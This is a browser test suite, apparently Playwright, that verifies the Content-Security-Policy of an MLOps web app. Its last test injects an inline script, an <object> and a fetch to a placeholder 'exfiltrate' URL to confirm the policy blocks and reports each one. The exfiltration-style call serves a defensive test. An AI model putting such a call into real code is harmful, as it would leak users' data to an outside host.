/**
 * The Content-Security-Policy of the built page: it is there, before any
 * script, with the directives that forbid remote connections, inline
 * scripts and objects; every view runs under it without one violation
 * (data, profile, versions, a forest and an MLP trained on WASM, runs,
 * registry with a promotion, lineage, audit verify, storage, an offline
 * reload); and it really is enforced (an injected inline script, a remote
 * fetch and an <object> are each refused and reported). The preview server
 * also sends the policy as a header, so the workers run under it too: TF.js
 * compiles its WASM there only because of 'wasm-unsafe-eval'.
 */
import { LONG, test } from './harness.js';
import { assert, goTo, saveVersion, waitForDraft } from './helpers.js';
import { move, registerRun, stages } from './registry-helpers.js';
import { chooseModel, setField, trainAndWait, trainForm } from './train-helpers.js';

const MODEL = 'csp-penguins';

/** Every violation reported in the page (through a binding, so reloads keep them) and every CSP console message. */
const violations = [];

/** The policy as the built page declares it, directive → sources. */
let policy = null;

async function watch(s) {
  await s.context.exposeBinding('__reportCspViolation', (_source, v) => violations.push(v));
  await s.context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__reportCspViolation({
        directive: e.effectiveDirective,
        blocked: e.blockedURI,
        source: `${e.sourceFile}:${e.lineNumber}`,
        sample: e.sample,
      }),
    );
  });
  s.page.on('console', (message) => {
    if (/Content[- ]Security[- ]Policy/i.test(message.text())) violations.push({ console: message.text() });
  });
}

test('the built page declares a policy before any script, with the required directives', async (s) => {
  await watch(s);
  const page = await s.open();
  const html = await (await page.request.get(s.baseUrl)).text();
  const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/gi)];
  assert.equal(metas.length, 1, 'one CSP <meta> in the built index.html');
  assert.ok(metas[0].index < html.search(/<script\b/i), 'the policy comes before the first script');
  assert.ok(metas[0].index < html.search(/<link\b[^>]*stylesheet/i), 'and before the stylesheet');
  // No inline script is left in the built page (each <script> has a src).
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
  assert.ok(scripts.length >= 2, 'the entry and the service worker registration');
  for (const [, attrs, body] of scripts) {
    assert.match(attrs, /\ssrc="/, `script without src: ${attrs}`);
    assert.equal(body.trim(), '', 'a script with a src has no inline body');
  }

  policy = new Map(
    metas[0][1]
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...sources]) => [name, sources]),
  );
  assert.deepEqual(policy.get('default-src'), ["'self'"]);
  assert.deepEqual(policy.get('script-src'), ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(policy.get('connect-src'), ["'self'"]);
  assert.deepEqual(policy.get('worker-src'), ["'self'"]);
  assert.deepEqual(policy.get('object-src'), ["'none'"]);
  assert.deepEqual(policy.get('base-uri'), ["'none'"]);
  assert.deepEqual(policy.get('form-action'), ["'none'"]);
  assert.deepEqual(policy.get('style-src'), ["'self'"]);
  for (const [name, sources] of policy)
    for (const unsafe of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:'])
      assert.ok(!sources.includes(unsafe), `${name} allows ${unsafe}`);
  // The browser applies it: the page sees the meta and its own origin in the list.
  assert.equal(
    await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content),
    metas[0][1],
  );
  // The preview server sends the same policy as a header, the only way it reaches the workers.
  const entry = html.match(/src="\.\/(assets\/index-[^"]+\.js)"/)[1];
  const headers = (await page.request.get(s.baseUrl + entry)).headers();
  assert.equal(headers['content-security-policy'], metas[0][1]);
  assert.deepEqual(violations, []);
});

test(
  'every view runs under the policy without a violation',
  async (s) => {
    const page = s.page;
    // Data: a sample, its profile, a saved version; then the versions list.
    await goTo(page, 'Data');
    await page.getByRole('button', { name: 'Load Palmer penguins' }).click();
    await waitForDraft(page, 'penguins.csv');
    await page.getByRole('heading', { name: 'Data-quality warnings' }).waitFor();
    await saveVersion(page);
    await goTo(page, 'Versions');
    await page.getByRole('table', { name: 'Dataset versions, newest first' }).waitFor();

    // Train: a forest, then an MLP on the WASM backend (TF.js compiles WebAssembly in its worker).
    await goTo(page, 'Train');
    await trainForm(page).waitFor();
    await chooseModel(page, 'Random forest');
    await setField(page, 'Trees', 3);
    const forest = await trainAndWait(page, 'forest #1');
    assert.equal(await forest.getAttribute('data-status'), 'completed');
    await chooseModel(page, 'MLP');
    await setField(page, 'Epochs', 3);
    await trainForm(page).getByLabel('TF.js backend').selectOption('wasm');
    const mlp = await trainAndWait(page, 'mlp #2');
    assert.equal(await mlp.getAttribute('data-status'), 'completed');
    assert.match(await mlp.textContent(), /backend wasm/);

    // Runs, registry (register, promote), lineage, audit verify, storage.
    await goTo(page, 'Runs');
    await page.getByRole('table', { name: 'Training runs' }).waitFor();
    await registerRun(page, 'forest #1', MODEL);
    await goTo(page, 'Registry');
    assert.equal((await move(page, MODEL, 1, 'Staging', { reason: 'csp check' })).blocked, false);
    assert.equal((await move(page, MODEL, 1, 'Production', { reason: 'csp check' })).blocked, false);
    assert.deepEqual(await stages(page, MODEL), { v1: 'Production' });
    await goTo(page, 'Lineage');
    await page.getByRole('group', { name: 'Lineage graph' }).waitFor();
    await goTo(page, 'Audit log');
    await page.getByRole('button', { name: 'Verify chain' }).click();
    await page.getByTestId('chain-status').filter({ hasText: 'Chain intact' }).waitFor();
    await goTo(page, 'Storage');

    // Offline: the service worker serves the reload, and the app comes up under the same policy.
    assert.equal(await page.evaluate(async () => Boolean((await navigator.serviceWorker.ready).active)), true);
    await s.context.setOffline(true);
    try {
      await page.reload();
      await page.getByRole('heading', { name: 'MLOps Workbench' }).waitFor();
      await goTo(page, 'Registry');
      assert.deepEqual(await stages(page, MODEL), { v1: 'Production' });
    } finally {
      await s.context.setOffline(false);
    }
    assert.deepEqual(violations, [], 'no CSP violation in any view');
  },
  LONG,
);

test('the policy is enforced: an inline script, a remote fetch and an <object> are refused and reported', async (s) => {
  const page = s.page;
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.head.append(script);
    let fetched = 'not refused';
    try {
      await fetch('https://example.com/exfiltrate');
    } catch (error) {
      fetched = error.name;
    }
    const object = document.createElement('object');
    object.data = '/nothing.swf';
    document.body.append(object);
    // Violation events are dispatched as tasks; give them a moment to arrive.
    await new Promise((resolve) => setTimeout(resolve, 200));
    object.remove();
    return { inlineRan: window.__inlineRan === true, fetched };
  });
  assert.deepEqual(outcome, { inlineRan: false, fetched: 'TypeError' });
  const directives = violations.map((v) => v.directive).filter(Boolean);
  assert.ok(directives.includes('script-src-elem'), `reported: ${JSON.stringify(violations)}`);
  assert.ok(directives.includes('connect-src'), `reported: ${JSON.stringify(violations)}`);
  assert.ok(directives.includes('object-src'), `reported: ${JSON.stringify(violations)}`);
  violations.length = 0;
});
